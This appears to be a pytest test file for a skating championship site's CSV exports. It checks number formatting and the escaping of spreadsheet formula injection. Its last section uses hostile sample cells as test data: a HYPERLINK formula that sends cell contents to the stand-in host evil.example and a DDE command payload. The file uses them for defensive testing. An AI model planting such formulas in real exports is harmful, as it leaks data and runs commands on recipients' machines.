"""The classification and a distance as CSV: English numbers whatever the page's language, and
nothing a spreadsheet would run as a formula."""

import csv
import io
from decimal import Decimal

import pytest

from championships.exports import spreadsheet_cell
from championships.models import Skater
from tests.support.seed import SEED_SLUG as SLUG

PAGE = f"/{SLUG}/"
STANDINGS_CSV = f"/{SLUG}/standings.csv"

pytestmark = pytest.mark.django_db


def read_csv(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8"))))


def test_standings_csv(wk_sprint_after_3, client):
    rows = read_csv(client.get(STANDINGS_CSV, HTTP_ACCEPT_LANGUAGE="nl"))
    header, body = rows[0], rows[1:]
    assert len(body) == 10
    assert header[:4] == ["rank", "status", "skater", "country"]
    column = {name: i for i, name in enumerate(header)}
    assert "500 m #1 time" in column and "500 m #3 points" in column
    by_name = {r[column["skater"]]: r for r in body}
    takagi, kok = by_name["Miho Takagi"], by_name["Femke Kok"]
    # English numbers whatever the page language.
    assert (takagi[column["rank"]], takagi[column["points"]]) == ("1", "110.980")
    assert takagi[column["1000 m #2 time"]] == "1:13.32"
    assert kok[column["behind leader s on 1000 m"]] == "0.67"
    assert (kok[column["rank"]], kok[column["points"]], kok[column["behind leader"]]) == (
        "2",
        "111.315",
        "0.335",
    )
    assert kok[column["500 m #1 badges"]] == "TR"
    assert [r[column["skater"]] for r in body][:3] == ["Miho Takagi", "Femke Kok", "Jutta Leerdam"]
    response = client.get(STANDINGS_CSV)
    assert "attachment" in response["Content-Disposition"]


def test_standings_csv_after_a_distance(wk_sprint_after_3, client):
    rows = read_csv(client.get(STANDINGS_CSV + "?after=2"))
    column = {name: i for i, name in enumerate(rows[0])}
    kok = next(r for r in rows[1:] if r[column["skater"]] == "Femke Kok")
    assert kok[column["behind leader s on 500 m"]] == "0.46"
    assert "500 m #3 time" not in column
    assert client.get(STANDINGS_CSV + "?after=9").status_code == 404
    assert client.get(STANDINGS_CSV + "?after=²").status_code == 404


def test_standings_csv_after_the_final_lists_the_nc_skater(wk_sprint, client):
    rows = read_csv(client.get(STANDINGS_CSV))
    column = {name: i for i, name in enumerate(rows[0])}
    assert not any(name.startswith("behind leader s") for name in column)
    grevelt = rows[-1]
    assert (grevelt[column["skater"]], grevelt[column["rank"]], grevelt[column["status"]]) == (
        "Isabel Grevelt",
        "",
        "NC",
    )
    assert grevelt[column["1000 m #4 status"]] == "DQ"


def test_distance_csv(wk_sprint_after_3, client):
    rows = read_csv(client.get(f"/{SLUG}/distances/3/results.csv", HTTP_ACCEPT_LANGUAGE="nl"))
    assert ",".join(rows[0]) == "rank,skater,country,time,status,behind,points,badges,pair,lane,splits"
    assert len(rows) == 11
    # Kok equalled the track record: the badge "=TR" is text, not a formula.
    assert rows[1] == ["1", "Femke Kok", "NED", "37.07", "", "0.00", "37.070", "'=TR", "5", "outer", ""]
    assert rows[2][:6] == ["2", "Kim Min-sun", "KOR", "37.11", "", "0.04"]


def test_distance_csv_before_it_is_skated_is_the_start_list(wk_sprint_after_3, client):
    rows = read_csv(client.get(f"/{SLUG}/distances/4/results.csv"))
    assert len(rows) == 11
    assert all(r[0] == "" and r[3] == "" for r in rows[1:])
    assert [r[8] for r in rows[1:]] == ["1", "1", "2", "2", "3", "3", "4", "4", "5", "5"]
    assert client.get(f"/{SLUG}/distances/5/results.csv").status_code == 404


def test_pages_link_to_their_csv(wk_sprint_after_3, client):
    assert f'href="{STANDINGS_CSV}"' in client.get(PAGE).content.decode()
    assert f'href="{STANDINGS_CSV}?after=2"' in client.get(PAGE + "?after=2").content.decode()
    assert f'href="/{SLUG}/distances/3/results.csv"' in client.get(f"/{SLUG}/distances/3/").content.decode()


# --- cells a spreadsheet would run ---------------------------------------------------------------


@pytest.mark.parametrize(
    "value, cell",
    [
        ('=HYPERLINK("http://evil.example","Kok")', '\'=HYPERLINK("http://evil.example","Kok")'),
        ("=TR", "'=TR"),
        ("=TR PB", "'=TR PB"),
        ("+31 6 1234", "'+31 6 1234"),
        ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        # Numbers stay numbers, negative ones too.
        ("-0.5", "-0.5"),
        ("-2", "-2"),
        ("+3", "+3"),
        (-2, -2),
        (Decimal("-0.335"), Decimal("-0.335")),
        ("0.335", "0.335"),
        # Ordinary text and empty cells.
        ("Femke Kok", "Femke Kok"),
        ("Rijpma-de Jong", "Rijpma-de Jong"),
        ("1:13.32", "1:13.32"),
        ("", ""),
        (None, ""),
    ],
)
def test_spreadsheet_cells(value, cell):
    assert spreadsheet_cell(value) == cell


def test_a_name_written_as_a_formula_is_text_in_both_csv_files(wk_sprint_after_3, client):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Femke Kok")'
    Skater.objects.filter(championship=wk_sprint_after_3, name="Femke Kok").update(name=formula)
    rows = read_csv(client.get(f"/{SLUG}/distances/3/results.csv"))
    assert rows[1] == ["1", f"'{formula}", "NED", "37.07", "", "0.00", "37.070", "'=TR", "5", "outer", ""]
    rows = read_csv(client.get(STANDINGS_CSV))
    column = {name: i for i, name in enumerate(rows[0])}
    kok = rows[2]
    assert (kok[column["skater"]], kok[column["500 m #3 badges"]]) == (f"'{formula}", "'=TR")
    # Places lost are a negative number, and stay one: Grevelt was seventh after two distances.
    grevelt = next(r for r in rows[1:] if r[column["skater"]] == "Isabel Grevelt")
    assert (grevelt[column["rank"]], grevelt[column["change"]]) == ("9", "-2")
